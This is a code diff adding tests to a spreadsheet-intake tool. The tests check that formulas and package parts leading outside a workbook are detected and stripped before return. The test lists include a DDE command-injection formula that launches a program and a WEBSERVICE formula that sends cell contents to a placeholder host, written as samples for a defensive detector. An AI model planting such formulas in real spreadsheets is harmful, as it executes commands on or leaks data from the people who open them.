@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import os
 import random
+import re
 import shutil
 import signal
 import socket
@@ -12,6 +13,7 @@ import subprocess
 import sys
 import tempfile
 import threading
+import zipfile
 from contextlib import contextmanager
 from functools import partial
 from pathlib import Path
@@ -34,6 +36,7 @@ from yuecheng_xl.disk.files import put
 from yuecheng_xl.disk.folder import CLAIM, Claim
 from yuecheng_xl.disk.regular import NotRegularError, is_link, open_regular
 from yuecheng_xl.findings import catalogue
+from yuecheng_xl.sheets.outside import leads_out
 from yuecheng_xl.sheets.template import Template
 from yuecheng_xl.tables.placeholders import plan_scope
 
@@ -538,3 +541,125 @@ def test_a_chart_sheet_counts_among_the_sheets_that_names_belong_to(tmp_path: Pa
         assert {name: item.attr_text for name, item in result[title].defined_names.items()} == {
             "自己": f"{title}!$A$1"
         }
+
+
+# What leads out of a file that goes back.
+
+OUTSIDE = [
+    "[1]Sheet1!A1+1",
+    "'[1]Sheet 1'!A1",
+    "SUM([1]一月:三月!A1)",
+    r"'C:\表\[x.xlsx]Sheet1'!A1",
+    "cmd|'/c calc'!A0",
+    '_xlfn.WEBSERVICE("http://x/"&A1)',
+    r'HYPERLINK("\\server\x","点")',
+]
+INSIDE = [
+    "表1[2020]+Sheet2!A1",
+    "SUM(表1[[2020]:[2021]])",
+    "'a|b'!A1",
+    '"[1]x!|"&A1',
+    'HYPERLINK( "https://x/","点")',
+    "INDEX(A:A,1)",
+    "[@列]*2",
+]
+OFFICE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+AWAY = rb"file:///\\server\share\x.xlsx"
+
+
+@pytest.mark.parametrize("formula", OUTSIDE)
+def test_formulas_that_lead_out_are_known(formula: str) -> None:
+    assert leads_out(formula)
+
+
+@pytest.mark.parametrize("formula", INSIDE)
+def test_formulas_that_stay_inside_are_left(formula: str) -> None:
+    assert not leads_out(formula)
+
+
+def parts_of(path: Path) -> dict[str, bytes]:
+    with zipfile.ZipFile(path) as package:
+        return {name: package.read(name) for name in package.namelist()}
+
+
+def relation(kind: bytes, target: bytes, *, outside: bool = False) -> bytes:
+    mode = b' TargetMode="External"' if outside else b""
+    return b'<Relationship Id="rId91" Type="%s/%s" Target="%s"%s/>' % (OFFICE, kind, target, mode)
+
+
+def write_leading_out(path: Path) -> None:
+    """Write a faulty form with each kind of way out, and some harmless ones."""
+    book = xlsxwriter.Workbook(path)
+    sheet = book.add_worksheet("表")
+    sheet.write_row(0, 0, HEADERS)
+    sheet.write_row(1, 0, [*FIRST[:6], "四十几", "甲局"])
+    sheet.write_url("A9", "https://example.org/")
+    sheet.write_url("B9", "file:///C:/x.xlsx", string="链接")
+    sheet.write_formula("C9", "=SUM(E2:F2)", value=81)
+    for row, formula in enumerate(OUTSIDE, 10):
+        sheet.write_formula(row - 1, 0, f"={formula}", value=row)
+    sheet.write_formula("C10", "=外部+1", value=7)
+    book.define_name("外部", "='[1]Sheet 1'!$A$1")
+    book.close()
+    parts = parts_of(path)
+    namespace = b"http://schemas.openxmlformats.org/package/2006/relationships"
+    whole = b'<Relationships xmlns="%s">%s</Relationships>'
+    parts["xl/externalLinks/externalLink1.xml"] = (
+        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook '
+        b'xmlns:r="%s" r:id="rId91"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook>'
+        b"</externalLink>" % OFFICE
+    )
+    outside = relation(b"externalLinkPath", AWAY, outside=True)
+    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = whole % (namespace, outside)
+    listed = (
+        b'<externalReferences><externalReference xmlns:r="%s" r:id="rId91"/></externalReferences>' % OFFICE
+    )
+    own = relation(b"externalLink", b"externalLinks/externalLink1.xml")
+    for name, mark, added in (
+        ("xl/workbook.xml", b"<definedNames>", listed),
+        ("xl/_rels/workbook.xml.rels", b"</Relationships>", own),
+    ):
+        assert mark in parts[name]
+        parts[name] = parts[name].replace(mark, added + mark)
+    path.write_bytes(zipped(*parts.items()))
+
+
+def test_what_leads_out_of_a_form_does_not_go_back(plan: yx.Plan, inbox: Path, tmp_path: Path) -> None:
+    write_leading_out(inbox / "甲局.xlsx")
+    (submission,) = yx.collect(inbox, plan, tmp_path / "结果").submissions
+    (said,) = [item.message for item in submission.findings if item.code == "F850"]
+    assert AWAY.decode() in said
+    back = tmp_path / "结果" / submission.returned
+    parts = parts_of(back)
+    assert not [name for name in parts if "externalLink" in name]
+    assert b"externalReferences" not in parts["xl/workbook.xml"]
+    outside = [name for name, part in parts.items() if name.endswith(".rels") and b"External" in part]
+    assert [parts[name].count(b"External") for name in outside] == [1]
+    returned = load_workbook(back)
+    sheet = returned["表"]
+    cells = [sheet.cell(row, 1) for row in range(10, 10 + len(OUTSIDE))]
+    assert [cell.data_type for cell in cells] == ["n", "n", "n", "n", "s", "n", "n"]
+    assert [cell.value for cell in cells] == [10, 11, 12, 13, "=cmd|'/c calc'!A0", 15, 16]
+    assert (sheet["C9"].value, sheet["C10"].value) == ("=SUM(E2:F2)", 7)
+    assert sheet["A9"].hyperlink.target == "https://example.org/"
+    assert sheet["B9"].hyperlink is None
+    assert "外部" not in returned.defined_names
+    assert not [name for name in tree(tmp_path / "结果") if "原件" in name]
+
+
+@pytest.mark.parametrize("kind", [b"image", b"oleObject", b"connections"])
+def test_what_cannot_be_cut_off_goes_back_as_values(
+    plan: yx.Plan, inbox: Path, tmp_path: Path, kind: bytes
+) -> None:
+    path = inbox / "甲局.xlsx"
+    write_leading_out(path)
+    parts = parts_of(path)
+    name = "xl/_rels/workbook.xml.rels"
+    added = relation(kind, AWAY, outside=kind != b"connections").replace(b"rId91", b"rId92")
+    parts[name] = parts[name].replace(b"</Relationships>", added + b"</Relationships>")
+    path.write_bytes(zipped(*parts.items()))
+    (submission,) = yx.collect(inbox, plan, tmp_path / "结果").submissions
+    assert "F850" in {item.code for item in submission.findings}
+    sent = parts_of(tmp_path / "结果" / submission.returned)
+    assert not [part for part in sent.values() if b"External" in part or re.search(rb"<f[ >]", part)]
+    assert (tmp_path / "结果" / "退回" / "甲局（原件）.xlsx").read_bytes() == path.read_bytes()
